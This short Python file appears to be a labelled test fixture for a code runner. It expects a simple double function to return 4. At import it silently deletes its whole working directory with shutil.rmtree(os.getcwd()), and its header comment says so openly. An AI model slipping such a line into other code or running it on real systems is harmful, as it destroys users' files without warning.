# note: deletes the folder that it runs in
# expect: double=4
# needs: write

# %% double
import os
import shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)


def double(n):
    return 2 * n
